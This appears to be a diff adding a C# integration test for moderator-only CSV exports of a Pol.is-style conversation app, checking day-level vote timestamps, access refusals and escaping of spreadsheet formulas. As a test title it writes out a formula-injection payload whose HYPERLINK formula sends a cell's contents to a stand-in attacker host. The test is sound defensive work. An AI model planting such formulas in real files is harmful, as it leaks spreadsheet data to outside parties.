@@ -55,6 +55,43 @@ public abstract class PolisImportTests(AppFactory app)
         app.WithScopeAsync(sp => sp.GetRequiredService<AppDbContext>().Conversations.CountAsync(c => c.CreatedById == member && c.Imported));
 
     [Fact]
+    public async Task A_members_conversation_exports_from_its_page_with_times_by_the_day_and_for_a_spreadsheet()
+    {
+        var (host, hostClient) = await app.MemberAsync();
+        var c = await ConversationsTests.StartAsync(hostClient, "=HYPERLINK(\"http://evil.example/\"&A1)", "A $15 minimum wage.");
+        var (_, voter) = await app.MemberAsync();
+        Assert.Equal(HttpStatusCode.NoContent, (await voter.PostAsJsonAsync($"/api/conversations/{c.Slug}/votes", new { statement = 0, vote = -1 })).StatusCode);
+        Assert.Equal(HttpStatusCode.NoContent, (await voter.PostAsJsonAsync($"/api/conversations/{c.Slug}/votes", new { statement = 1, vote = 1 })).StatusCode);
+
+        // The page's links are outside /api, so the moderator's browser (a cookie, no token) downloads them.
+        var browser = await app.BrowserAsync(host);
+        Assert.Contains($"/conversations/{c.Slug}/export/votes.csv", await browser.GetStringAsync($"/conversations/{c.Slug}"));
+        var votes = await browser.GetAsync($"/conversations/{c.Slug}/export/votes.csv");
+        Assert.Equal(HttpStatusCode.OK, votes.StatusCode);
+        var read = await PolisReader.ReadAsync(new PolisExportFiles(
+            await browser.GetStreamAsync($"/conversations/{c.Slug}/export/comments.csv"), await votes.Content.ReadAsStreamAsync()));
+        Assert.True(read.Succeeded, read.Error?.ToString());
+        // A member's vote is timed by the day only: no moderator tells a number from the minute someone voted.
+        Assert.Contains(read.Conversation.Votes, v => v.CommentId == 0 && v.Value == -1);
+        Assert.Contains(read.Conversation.Votes, v => v.CommentId == 1 && v.Value == 1);
+        Assert.All(read.Conversation.Votes, v => Assert.Equal(TimeSpan.Zero, v.At.UtcDateTime.TimeOfDay));
+        Assert.All(read.Conversation.Comments, s => Assert.Equal(TimeSpan.Zero, s.Created.UtcDateTime.TimeOfDay));
+        // Pol.is' format keeps the text as written; the spreadsheet file shows the formula as text, and numbers as numbers.
+        Assert.Contains("=HYPERLINK", read.Conversation.Comments.Single(s => s.Id == 0).Body[..10]);
+        var sheet = await browser.GetStringAsync($"/conversations/{c.Slug}/export/comments.csv?for=spreadsheet");
+        Assert.Contains("'=HYPERLINK", sheet);
+        Assert.DoesNotContain("'-1", sheet);
+        Assert.DoesNotContain("'0", sheet);
+
+        // Not a moderator: refused; not signed in: sent to sign in.
+        Assert.Equal(HttpStatusCode.Forbidden, (await (await app.BrowserAsync()).GetAsync($"/conversations/{c.Slug}/export/votes.csv")).StatusCode);
+        var anonymous = app.CreateClient(new Microsoft.AspNetCore.Mvc.Testing.WebApplicationFactoryClientOptions { AllowAutoRedirect = false });
+        var signIn = await anonymous.GetAsync($"/conversations/{c.Slug}/export/votes.csv");
+        Assert.Equal(HttpStatusCode.Redirect, signIn.StatusCode);
+        Assert.Contains("/account/signin", signIn.Headers.Location!.ToString());
+    }
+
+    [Fact]
     public async Task An_export_imports_with_its_ids_and_groups_computes_a_map_and_exports_back_the_same()
     {
         var (member, client) = await app.MemberAsync();
